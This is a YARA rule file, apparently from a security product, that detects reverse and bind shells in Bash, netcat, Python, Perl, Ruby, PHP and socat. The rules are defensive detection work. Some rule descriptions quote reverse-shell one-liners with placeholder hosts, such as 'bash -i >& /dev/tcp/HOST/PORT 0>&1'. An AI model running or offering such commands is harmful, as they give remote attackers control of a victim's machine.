/*
 * Reverse and bind shells: one-liners that hand an interactive shell to a
 * remote host. Ordinary use of the same tools (health checks over /dev/tcp,
 * nc port probes) must not match.
 */

rule Shieldwall_Reverse_Shell_Bash_Dev_Tcp
{
    meta:
        id = "reverse-shell-bash-dev-tcp"
        title = "Reverse shell: interactive shell redirected to /dev/tcp"
        severity = "CRITICAL"
        description = "An interactive shell whose input and output are redirected to a /dev/tcp or /dev/udp socket (bash -i >& /dev/tcp/HOST/PORT 0>&1 and its variants)."
        reference = "https://attack.mitre.org/techniques/T1059/004/"

    strings:
        $interactive = /\b(ba|z|k|da)?sh\s+-i\s+[0-9]?>&?\s*\/dev\/(tcp|udp)\/[^\/\s]{1,255}\/[0-9]{1,5}/
        $stdin_dup = /\/dev\/(tcp|udp)\/[^\/\s]{1,255}\/[0-9]{1,5}\s+0>&1/
        $fd_open = /exec\s+([0-9]{1,2})<>\s*\/dev\/(tcp|udp)\/[^\/\s]{1,255}\/[0-9]{1,5}/
        $fd_shell = /\b(ba|z|k|da)?sh\s+(-i\s+)?[0-9]?<&\s*[0-9]{1,2}\s+[0-9]?>&\s*[0-9]{1,2}/

    condition:
        $interactive or $stdin_dup or ($fd_open and $fd_shell)
}

rule Shieldwall_Reverse_Shell_Netcat
{
    meta:
        id = "reverse-shell-netcat"
        title = "Reverse or bind shell through netcat"
        severity = "CRITICAL"
        description = "netcat (nc, ncat, netcat) started with -e or -c and a shell, or a named pipe looping a shell through nc or telnet (mkfifo/mknod backpipe one-liners)."
        reference = "https://attack.mitre.org/techniques/T1059/004/"

    strings:
        $nc_e = /\b(nc|ncat|netcat)(\.traditional|\.openbsd)?\s[^\n]{0,120}-[a-z]{0,4}[ec]\s+["']?(\/usr)?(\/bin\/)?(ba|z|k|da)?sh\b/
        $fifo = /(mkfifo|mknod)\s[^\n]{0,160}\b(ba|z|k|da)?sh\s+-i\b[^\n]{0,160}\|\s*(nc|ncat|netcat|telnet)\s/
        $fifo2 = /(mkfifo|mknod)\s[^\n]{0,160}\b(nc|ncat|netcat|telnet)\s[^\n]{0,160}\|\s*(\/bin\/)?(ba|z|k|da)?sh\b/

    condition:
        any of them
}

rule Shieldwall_Reverse_Shell_Python
{
    meta:
        id = "reverse-shell-python"
        title = "Reverse shell in Python: socket duplicated onto stdio and a shell spawned"
        severity = "CRITICAL"
        description = "Python code connects a socket, duplicates it onto file descriptors 0-2 with os.dup2 and spawns a shell (pty.spawn or /bin/sh): the classic Python reverse shell, as a one-liner or a small script."
        reference = "https://attack.mitre.org/techniques/T1059/006/"

    strings:
        $oneliner = /socket\.socket\([^\n]{0,200}\.connect\(\([^\n]{0,300}(os\.)?dup2\([^\n]{0,300}(pty\.spawn\(|\/bin\/(ba)?sh)/
        $sock = "socket.socket(" ascii
        $connect = ".connect((" ascii
        $dup2 = "dup2(" ascii
        $fileno = ".fileno()" ascii
        $pty = "pty.spawn(" ascii
        $sh = /["']\/bin\/(ba|z)?sh["']/

    condition:
        $oneliner or (filesize < 8KB and $sock and $connect and #dup2 >= 2 and $fileno and ($pty or $sh))
}

rule Shieldwall_Reverse_Shell_Perl
{
    meta:
        id = "reverse-shell-perl"
        title = "Reverse shell in Perl: socket bound to STDIN/STDOUT and a shell exec'd"
        severity = "CRITICAL"
        description = "Perl code opens a socket, reopens STDIN/STDOUT on it and execs a shell."
        reference = "https://attack.mitre.org/techniques/T1059/"

    strings:
        $socket = /socket\s*\(\s*\w+\s*,\s*PF_INET/
        $stdin = /open\s*\(\s*STDIN\s*,\s*["']>&/
        $stdout = /open\s*\(\s*STDOUT\s*,\s*["']>&/
        $exec = /exec\s*\(?\s*["'](\/bin\/)?(ba)?sh\b/
        $io_socket = /IO::Socket::INET\s*->\s*new\s*\([^\n]{0,200}(system|exec)\s*\(?\s*\$?[^\n]{0,40}/

    condition:
        ($socket and $stdin and $stdout and $exec) or ($io_socket and $stdin)
}

rule Shieldwall_Reverse_Shell_Ruby
{
    meta:
        id = "reverse-shell-ruby"
        title = "Reverse shell in Ruby: TCPSocket wired to a shell"
        severity = "CRITICAL"
        description = "Ruby code opens a TCPSocket and execs or spawns a shell on its file descriptor."
        reference = "https://attack.mitre.org/techniques/T1059/"

    strings:
        $fd = /TCPSocket\.(open|new)\([^\n]{0,200}(exec|spawn|system)\s*\(?\s*sprintf\s*\(\s*["']\/bin\/(ba)?sh\s+-i\s+<&%d/
        $io = /TCPSocket\.(open|new)\([^\n]{0,200}(exec|spawn|IO\.popen)\s*\(?\s*["'](\/bin\/)?(ba)?sh\b[^\n]{0,40}(<&|:in\s*=>|\[:in)/

    condition:
        any of them
}

rule Shieldwall_Reverse_Shell_PHP
{
    meta:
        id = "reverse-shell-php"
        title = "Reverse shell in PHP: fsockopen wired to a shell"
        severity = "CRITICAL"
        description = "PHP code opens a socket with fsockopen and runs a shell on its descriptor (exec(\"/bin/sh -i <&3 >&3 2>&3\") and friends)."
        reference = "https://attack.mitre.org/techniques/T1059/"

    strings:
        $oneliner = /fsockopen\s*\([^\n]{0,200}(exec|shell_exec|system|passthru|popen|proc_open)\s*\(\s*["'](\/bin\/)?(ba)?sh\s+-i\s*<&\s*[0-9]/
        $fsock = "fsockopen(" ascii
        $proc = /proc_open\s*\(\s*["'](\/bin\/)?(ba)?sh\s+-i["']/

    condition:
        $oneliner or ($fsock and $proc)
}

rule Shieldwall_Reverse_Shell_Socat
{
    meta:
        id = "reverse-shell-socat"
        title = "Reverse or bind shell through socat"
        severity = "CRITICAL"
        description = "socat connecting a TCP or SSL socket to an exec'd shell (socat tcp:HOST:PORT exec:'bash -li',pty,stderr...)."
        reference = "https://attack.mitre.org/techniques/T1059/004/"

    strings:
        $exec_sh = /\bsocat\s[^\n]{0,200}\b(exec|system):["']?(\/usr)?(\/bin\/)?(ba|z|k|da)?sh\b/ nocase
        $net = /\b(tcp|tcp4|tcp6|openssl|ssl)(-connect|-listen)?:/ nocase

    condition:
        $exec_sh and $net
}
